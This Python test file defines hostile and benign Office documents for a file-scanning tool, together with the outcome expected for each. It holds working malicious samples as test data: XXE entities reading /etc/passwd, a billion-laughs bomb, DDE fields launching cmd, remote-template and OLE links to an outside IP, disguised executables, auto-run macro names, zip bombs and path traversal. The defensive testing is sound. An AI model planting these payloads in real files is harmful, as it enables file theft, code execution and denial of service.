"""Office documents: honest ones, entities, those that reach out or carry something, broken ones."""

from __future__ import annotations

from collections.abc import Callable

from tests.examine.corpus import ATTENTION, AWAY, NOT_TAKEN, READY, REFUSED, Case, Outcome
from tests.examine.made_office import (
    book_of,
    document,
    document_twice,
    field,
    formulas,
    hidden_sheet,
    many_rows,
    markup,
    paragraph,
    related,
    relations,
    sheet_of,
    stray_cell,
    text,
)
from tests.examine.made_zips import encrypted, honest_entry, raw_zip, zeros
from tests.unit.files import archive, docx, workbook

GROUP = "office"
Outcomes = frozenset[Outcome]
DOCTYPE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
PROGRAM = b"MZ\x90\x00\x03" + bytes(200)


def cases() -> list[Case]:
    return [
        *_documents(),
        *_entities(),
        *_reaching_out(),
        *_carrying(),
        *_workbooks(),
        *_broken_office(),
    ]


def doc(name: str, data: bytes | Callable[[], bytes], allowed: Outcomes, *, honest: bool = False) -> Case:
    return Case(name, GROUP, data, "方案.docx", allowed, honest)


def book(name: str, data: bytes | Callable[[], bytes], allowed: Outcomes, *, honest: bool = False) -> Case:
    return Case(name, GROUP, data, "成绩.xlsx", allowed, honest)


def _documents() -> list[Case]:
    svg = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd"><svg/>'
    body = document(paragraph(text("反诈宣传方案")) + field("TOC \\o &quot;1-3&quot;"))
    wide = '<?xml version="1.0" encoding="UTF-16"?>' + document(paragraph(text("方案"))).decode()
    return [
        doc("plain document", docx(), READY, honest=True),
        doc("document with contents list", docx({"word/document.xml": body}), READY, honest=True),
        doc("link to a page", related("hyperlink", "https://example.org/"), READY, honest=True),
        doc("link to mail", related("hyperlink", "mailto:office@example.org"), READY, honest=True),
        doc("drawing with a public DTD", docx({"word/media/image1.svg": svg}), READY, honest=True),
        doc(
            "chart with its numbers",
            docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()}),
            READY,
            honest=True,
        ),
        doc("part in UTF-16", docx({"word/document.xml": wide.encode("utf-16")}), READY, honest=True),
        doc("empty document", docx({"word/document.xml": document("")}), READY, honest=True),
        doc(
            "field to a page within a link",
            docx({"word/document.xml": document(field("HYPERLINK &quot;a/link&quot;"))}),
            READY,
            honest=True,
        ),
        book("plain workbook", workbook(), READY, honest=True),
        book("stray cell in the last corner", stray_cell, READY, honest=True),
        book("a hundred thousand rows", many_rows, READY, honest=True),
        book("cells that look like formulas", formulas, READY, honest=True),
        book("markup and long texts in cells", markup, READY, honest=True),
        book("no rows", sheet_of(""), READY, honest=True),
    ]


def _entities() -> list[Case]:
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    bomb = f"<!DOCTYPE r [{laughs}]><w:document><w:t>&a9;</w:t></w:document>"
    wide = '<?xml version="1.0" encoding="UTF-16"?>' + DOCTYPE.partition("?>")[2]
    seven = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AD4APA-r/+AD4-'
    late = b"<!-- " + b"x" * 3_000_000 + b" -->" + DOCTYPE.partition("?>")[2].encode()
    plain = DOCTYPE.encode()
    return [
        doc("entities in the document", docx({"word/document.xml": plain}), REFUSED),
        doc("entities in UTF-16", docx({"word/document.xml": wide.encode("utf-16")}), REFUSED),
        doc(
            "entities in UTF-16 without a mark", docx({"word/styles.xml": wide.encode("utf-16-be")}), REFUSED
        ),
        doc("entities in UTF-7", docx({"word/document.xml": seven}), REFUSED),
        doc("entities in docProps", docx({"docProps/core.xml": plain}), REFUSED),
        doc("entities in docProps, UTF-16", docx({"docProps/app.xml": wide.encode("utf-16")}), REFUSED),
        doc("entities in the types", docx({"[Content_Types].xml": plain}), REFUSED),
        doc("entities in relations", docx({"word/_rels/document.xml.rels": plain}), REFUSED),
        doc("entities in custom XML", docx({"customXml/item1.xml": plain}), REFUSED),
        doc(
            "entities under another extension", docx({"word/styles.dat": b"\xef\xbb\xbf\n" + plain}), REFUSED
        ),
        doc("entities after a long comment", docx({"word/settings.xml": late}), REFUSED),
        doc(
            "a DTD elsewhere",
            docx({"word/styles.xml": b'<!DOCTYPE r SYSTEM "http://192.0.2.1/x.dtd"><r/>'}),
            REFUSED,
        ),
        doc("billion laughs", docx({"word/document.xml": bomb.encode()}), REFUSED),
        doc(
            "parameter entities",
            docx({"word/document.xml": b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://192.0.2.1/">%p;]><r/>'}),
            REFUSED,
        ),
        book("entities in a sheet", book_of({"xl/worksheets/sheet1.xml": plain}), REFUSED),
        book("entities in shared texts", book_of({"xl/sharedStrings.xml": plain}), REFUSED),
        book("entities in a drawing", book_of({"xl/drawings/drawing1.vml": plain}), REFUSED),
    ]


def _reaching_out() -> list[Case]:
    connection = b'<connections><connection id="1" odcFile="http://192.0.2.1/a.odc"/></connections>'
    link = b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    simple = '<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;http://192.0.2.1/a.png&quot;"/></w:p>'
    return [
        doc("remote template", related("attachedTemplate", "http://192.0.2.1/a.dotm", "settings"), ATTENTION),
        doc("remote picture", related("image", "http://192.0.2.1/a.png"), ATTENTION),
        doc("picture on a share", related("image", "\\\\192.0.2.1\\share\\a.png"), ATTENTION),
        doc("picture by file address", related("image", "file://192.0.2.1/a.png"), ATTENTION),
        doc(
            "remote picture, mode in capitals",
            related("image", "a.png", mode=' TargetMode="EXTERNAL"'),
            ATTENTION,
        ),
        doc("remote picture without a mode", related("image", "http://192.0.2.1/a.png", mode=""), ATTENTION),
        doc("remote object", related("oleObject", "http://192.0.2.1/a.rtf"), ATTENTION),
        doc("remote frame", related("frame", "http://192.0.2.1/"), ATTENTION),
        doc("remote part of a document", related("subDocument", "http://192.0.2.1/a.docx"), ATTENTION),
        doc("DDE", docx({"word/document.xml": document(field("DDE cmd &quot;/c calc&quot;"))}), ATTENTION),
        doc(
            "DDEAUTO in pieces",
            docx({"word/document.xml": document(field(" DD", "EAU", "TO c:\\\\x"))}),
            ATTENTION,
        ),
        doc("DDE in a header", docx({"word/header1.xml": document(field("DDEAUTO cmd"))}), ATTENTION),
        doc("picture by a field", docx({"word/document.xml": document(simple)}), ATTENTION),
        doc(
            "text by a field in a footnote",
            docx({"word/footnotes.xml": document(field("INCLUDETEXT x"))}),
            ATTENTION,
        ),
        book("workbook linked to another", book_of({"xl/externalLinks/externalLink1.xml": link}), ATTENTION),
        book("data connection", book_of({"xl/connections.xml": connection}), ATTENTION),
        book("query table", book_of({"xl/queryTables/queryTable1.xml": b"<queryTable/>"}), ATTENTION),
    ]


def _carrying() -> list[Case]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)
    types = b'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    vba = relations("vbaProject", "quiet.bin", "").replace(b"openxmlformats", b"microsoft")
    start = b'<workbook><definedNames><definedName name="_xlnm.Auto_Open">M!A1</definedName></definedNames></workbook>'
    return [
        doc("embedded object", docx({"word/embeddings/oleObject1.bin": ole}), ATTENTION),
        doc("embedded program", docx({"word/embeddings/报告.exe": PROGRAM}), ATTENTION),
        doc("program among the pictures", docx({"word/media/image1.png": PROGRAM}), ATTENTION),
        doc(
            "object elsewhere in the file",
            docx({"word/_rels/document.xml.rels": relations("oleObject", "media/a.dat", "")}),
            ATTENTION,
        ),
        doc("ActiveX", docx({"word/activeX/activeX1.xml": b"<ax/>"}), ATTENTION),
        doc(
            "page put in as a part",
            docx({"word/_rels/document.xml.rels": relations("aFChunk", "a.mht", "")}),
            ATTENTION,
        ),
        doc("macros", docx({"word/vbaProject.bin": ole}), NOT_TAKEN),
        doc("macros by type alone", docx({"[Content_Types].xml": types, "word/x.bin": ole}), REFUSED),
        doc(
            "macros by relation alone",
            docx({"word/_rels/document.xml.rels": vba, "word/quiet.bin": ole}),
            REFUSED,
        ),
        doc("macro data", docx({"word/vbaData.xml": b"<d/>"}), REFUSED),
        book("macro sheet", book_of({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), REFUSED),
        book("macro that starts by itself", book_of({"xl/workbook.xml": start}), REFUSED),
        book("hidden sheet", lambda: hidden_sheet("hide"), ATTENTION),
        book("very hidden sheet", lambda: hidden_sheet("very_hidden"), ATTENTION),
    ]


def _workbooks() -> list[Case]:
    long = '<row r="1"><c r="A1" t="str"><v>' + "x" * 6_000_000 + "</v></c></row>"
    cells = '<row r="1">' + "<c><v>1</v></c>" * 200_000 + "</row>"
    return [
        book("one cell of 6 MB", lambda: sheet_of(long), READY),
        book("a row of 200,000 cells", lambda: sheet_of(cells), READY),
        book(
            "text number that does not exist", sheet_of('<row><c t="s"><v>99999999999</v></c></row>'), READY
        ),
        book(
            "numbers that are none", sheet_of('<row><c><v>1e999</v></c><c s="-1"><v>x</v></c></row>'), READY
        ),
        book(
            "column beyond the last",
            sheet_of('<row><c r="ZZZZ1"><v>1</v></c><c r="A1"><v>2</v></c></row>'),
            READY,
        ),
        book(
            "sheet that leads out",
            book_of({"xl/_rels/workbook.xml.rels": relations("worksheet", "../../../x", "")}),
            READY,
        ),
        book("no shared texts", book_of({}, without=("xl/sharedStrings.xml",)), READY),
        book("no relations", book_of({}, without=("xl/_rels/workbook.xml.rels",)), READY),
    ]


def _broken_office() -> list[Case]:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + bytes(4096)
    deep = b"<w:document>" + b"<w:p>" * 1_000_000
    attribute = b'<w:document x="' + b"y" * 7_000_000 + b'"/>'
    zeros_part = raw_zip(
        [
            honest_entry(b"[Content_Types].xml", b"<Types/>"),
            (b"word/document.xml", zeros(600), 600 * 1024 * 1024, 0),
        ]
    )
    return [
        doc("encrypted document", ole, NOT_TAKEN),
        doc("encrypted entry", encrypted(docx()), AWAY),
        doc("cut off", docx()[:200], NOT_TAKEN),
        doc("document cut within", docx({"word/document.xml": b"<w:document><w:t>ab"}), REFUSED),
        doc("no XML where it should be", docx({"word/document.xml": b"plain words"}), REFUSED),
        doc(
            "unknown encoding",
            docx({"word/document.xml": b'<?xml version="1.0" encoding="x-none"?><w:d/>'}),
            REFUSED,
        ),
        doc("a million levels", lambda: docx({"word/document.xml": deep}), REFUSED),
        doc("attribute of 7 MB", lambda: docx({"word/document.xml": attribute}), READY),
        doc("document of 600 MB of zeros", zeros_part, REFUSED),
        doc("path that leads out", docx({"../../evil.xml": b"<a/>"}), REFUSED),
        doc("absolute path", docx({"/word/document.xml": b"<a/>"}), REFUSED),
        doc("document twice", document_twice(), AWAY),
        doc(
            "presentation",
            archive({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}),
            NOT_TAKEN,
        ),
        book("sheet of zeros", lambda: book_of({"xl/worksheets/sheet1.xml": bytes(9_000_000)}), REFUSED),
    ]
